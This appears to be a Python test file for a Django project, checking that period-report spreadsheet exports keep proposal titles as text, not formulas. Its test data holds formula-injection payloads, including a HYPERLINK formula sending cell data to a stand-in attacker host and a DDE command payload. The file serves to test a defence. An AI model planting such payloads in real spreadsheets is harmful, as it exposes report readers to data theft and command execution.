"""Spreadsheet exports: text people typed (a proposal's title) must stay text. openpyxl stores a
string that starts with "=" as a formula, and Excel or LibreOffice then evaluate it when the
organization board opens the period report (formula injection: =HYPERLINK to send data away,
DDE to run a command)."""

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from proposals.models import Proposal
from reviews.reports import review_report
from reviews.stats import Period
from tests.exports.flows import api_file, exported

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?"&B2,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "@SUM(1,1)",
    "-2+3",
]


def _formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize(
    "source",
    ["dashboard", "/api/v1/reports/period/?output=xlsx&", "periodic review"],
)
def test_the_period_report_keeps_titles_as_text(world, as_user, source):
    for proposal, title in zip((world.pilot, world.lesson, world.review), FORMULAS, strict=False):
        Proposal.objects.filter(pk=proposal.pk).update(title=title)
    year = timezone.localdate().year
    if source == "periodic review":
        content = review_report(world.province, Period.year(year), language="vi")
    else:
        client = as_user(world.orgboard)
        if source.startswith("/api/"):
            response = api_file(client, f"{source}period=year&year={year}")
        else:
            response = exported(client, "period_report", period="year", year=year)
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
    assert _formula_cells(content) == []
